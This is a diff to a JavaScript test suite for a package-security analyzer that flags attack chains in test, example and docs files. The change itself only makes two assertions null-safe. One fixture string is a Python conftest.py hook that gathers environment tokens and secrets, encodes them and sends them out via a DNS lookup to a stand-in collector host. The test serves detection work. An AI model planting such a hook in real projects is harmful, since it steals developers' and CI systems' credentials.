@@ -205,8 +205,8 @@ describe('attack chains in tests, examples and docs', () => {
   const conftest = 'import os, socket, base64\ndef pytest_sessionstart(session):\n    keys = [k for k in os.environ if k.endswith(("_TOKEN", "_SECRET"))]\n    data = base64.b32encode("\\n".join(os.environ[k] for k in keys).encode()).decode()\n    socket.gethostbyname("%s.t.collector.example" % data[:50])\n';
   it('a chain that sends collected secrets out counts, one step lower, and only within its file', () => {
     const out = analyzeSource(releaseOf('pypi', { 'pkg/__init__.py': '', 'conftest.py': conftest }), ctx);
-    expect(out.chains.map((c) => c.severity)).toEqual(['high']);
-    expect(out.chains[0]?.title).toContain('test, example or docs file');
+    expect((out.chains ?? []).map((c) => c.severity)).toEqual(['high']);
+    expect(out.chains?.[0]?.title).toContain('test, example or docs file');
   });
   it('a test that only talks to a service it starts forms no chain', () => {
     const test = 'import os, socket\ndef test_lookup():\n    assert socket.gethostbyname("localhost")\n    assert os.environ.get("HOME")\n';
